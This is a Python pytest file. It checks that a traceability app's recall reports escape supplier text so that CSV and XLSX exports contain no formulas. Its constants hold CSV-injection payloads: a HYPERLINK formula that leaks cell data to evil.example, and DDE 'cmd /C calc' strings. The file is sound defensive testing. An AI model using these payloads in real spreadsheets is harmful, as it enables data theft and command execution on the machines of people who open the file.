"""Nothing a supplier writes becomes a formula in a recall report: text that a spreadsheet program
would evaluate (starting with = + - @, tab or carriage return) is a text cell in the XLSX and
carries a leading apostrophe in the CSV; numbers stay numbers. SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cradletrace.api.main import API_PREFIX
from cradletrace.config import Settings
from tests.api.conftest import MILK, B, Site, open_site, raw_milk, signed

P = API_PREFIX
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")'
PRODUCT = "+cmd|' /C calc'!A0"
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def any_site(tmp_path: Path, database_url: str | None) -> Iterator[Site]:
    with open_site(Settings(data_dir=tmp_path / "data", database_url=database_url)) as s:
        yield s


def test_supplier_text_is_never_a_formula(any_site: Site) -> None:
    site = any_site
    [milk] = raw_milk(1, B)
    milk["data"]["product"]["name"] = PRODUCT  # type: ignore[index]
    milk["data"]["site"]["name"] = LINK  # type: ignore[index]
    milk["data"]["site"]["address"] = ADDRESS  # type: ignore[index]
    lot = milk["data"]["lot"]  # type: ignore[index]
    r = site.client.post(
        f"{P}/events", headers=site.auth("supplier_b"), content=json.dumps(signed(site.settings, [milk]))
    )
    assert r.status_code in (200, 201), r.text
    q = site.auth("quality")
    started = site.client.post(
        f"{P}/recalls", headers=q, json={"reason": "-1+1 spoof", "severity": "I", "lots": [f"{MILK}/{lot}"]}
    )
    assert started.status_code == 201, started.text
    report = f"{P}/recalls/{started.json()['id']}/report"

    c = site.client.get(report, headers=q, params={"format": "csv"})
    table = list(csv.reader(io.StringIO(c.content.decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1]))
    assert row["Location (Transformation)"] == "'" + LINK and row["Product Description"] == "'" + PRODUCT
    assert row["Quantity"] == "18500" and row["Critical Tracking Event"] == "transformation"  # untouched
    for field in table[1]:
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field

    x = site.client.get(report, headers=q, params={"format": "xlsx"})
    wb = load_workbook(io.BytesIO(x.content))
    sheet = wb["Traceability"]
    cells = {h.value: c for h, c in zip(sheet[1], sheet[2])}
    for header, text in (("Location (Transformation)", LINK), ("Product Description", PRODUCT)):
        cell = cells[header]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), header
    assert cells["Quantity"].value == 18500 and cells["Quantity"].data_type == "n"
    assert cells["Lot"].value == lot and not cells["Lot"].quotePrefix
    for ws in wb.worksheets:  # nothing anywhere in the workbook is a formula
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), ws.title
    reason = next(r[1] for r in wb["Recall"].iter_rows() if r[0].value == "Reason")
    assert (reason.value, reason.data_type, reason.quotePrefix) == ("-1+1 spoof", "s", True)
